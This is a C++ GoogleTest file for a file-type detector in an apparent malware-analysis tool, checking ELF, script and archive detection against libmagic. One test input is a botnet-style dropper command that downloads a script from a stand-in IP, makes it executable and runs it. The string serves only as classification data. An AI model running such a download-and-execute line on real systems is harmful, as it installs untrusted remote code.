#include "analysis/static/file_type.h"

#include <gtest/gtest.h>
#include <magic.h>

#include <filesystem>
#include <fstream>
#include <iterator>
#include <set>
#include <string>
#include <vector>

namespace mitsu::analysis {
namespace {

FileType detect(std::string_view text) {
  FileTypeDetector detector;
  return detector.detect(std::as_bytes(std::span(text.data(), text.size())));
}

TEST(FileType, Categories) {
  std::string elf(
      "\x7f"
      "ELF\x01\x01\x01",
      7);
  elf.resize(64, '\0');
  EXPECT_EQ(detect(elf).category, FileCategory::kElf);
  EXPECT_EQ(detect("#!/bin/sh\necho hi\n").category, FileCategory::kScript);
  FileType dropper =
      detect("cd /tmp; wget http://192.0.2.7/bins.sh; chmod 777 bins.sh; sh bins.sh\n");
  EXPECT_EQ(dropper.category, FileCategory::kScript) << dropper.mime;
  EXPECT_EQ(detect(std::string("\x1f\x8b\x08\x00\x00\x00\x00\x00", 8)).category,
            FileCategory::kArchive);
  EXPECT_EQ(detect("just some notes\n").category, FileCategory::kOther);
  EXPECT_FALSE(detect("#!/bin/sh\n").description.empty());
  EXPECT_EQ(file_category_name(FileCategory::kScript), "script");
}

// The MIME type we derive for ELF files, and the description from fewer libmagic tests, must be
// what libmagic with every test gives.
TEST(FileType, ElfTypesEqualLibmagicOverRealElfFiles) {
  magic_t mime = magic_open(MAGIC_MIME_TYPE | MAGIC_NO_CHECK_COMPRESS);
  magic_t description = magic_open(MAGIC_NO_CHECK_COMPRESS);
  ASSERT_NE(mime, nullptr);
  ASSERT_NE(description, nullptr);
  ASSERT_EQ(magic_load(mime, nullptr), 0);
  ASSERT_EQ(magic_load(description, nullptr), 0);
  FileTypeDetector detector;
  std::set<std::string> kinds;
  int compared = 0;
  for (const auto& entry : std::filesystem::recursive_directory_iterator(MITSU_ELF_CORPUS)) {
    if (!entry.is_regular_file() || entry.file_size() > 2'000'000) {
      continue;
    }
    std::ifstream in(entry.path(), std::ios::binary);
    std::vector<char> bytes{std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>()};
    if (bytes.size() < 64 || std::string_view(bytes.data(), 4) !=
                                 "\x7f"
                                 "ELF") {
      continue;
    }
    // The corpus holds shared objects; the same bytes with another e_type stand for the rest.
    for (unsigned type : {0u, 1u, 2u, 4u, 5u}) {
      if (type != 0 && compared % 10 != 0) {
        continue;
      }
      if (type != 0) {
        bool big_endian = bytes[5] == 2;
        bytes[16] = static_cast<char>(big_endian ? 0 : type);
        bytes[17] = static_cast<char>(big_endian ? type : 0);
      }
      const char* expected = magic_buffer(mime, bytes.data(), bytes.size());
      ASSERT_NE(expected, nullptr);
      FileType type_found = detector.detect(std::as_bytes(std::span(bytes)));
      EXPECT_EQ(type_found.mime, expected) << entry.path() << " e_type " << type;
      EXPECT_EQ(type_found.description, magic_buffer(description, bytes.data(), bytes.size()))
          << entry.path() << " e_type " << type;
      kinds.insert(type_found.mime);
    }
    ++compared;
  }
  magic_close(mime);
  magic_close(description);
  EXPECT_GT(compared, 100);
  for (const char* kind : {"application/x-sharedlib", "application/x-object",
                           "application/x-executable", "application/x-coredump"}) {
    EXPECT_TRUE(kinds.contains(kind)) << kind;
  }
}

}  // namespace
}  // namespace mitsu::analysis
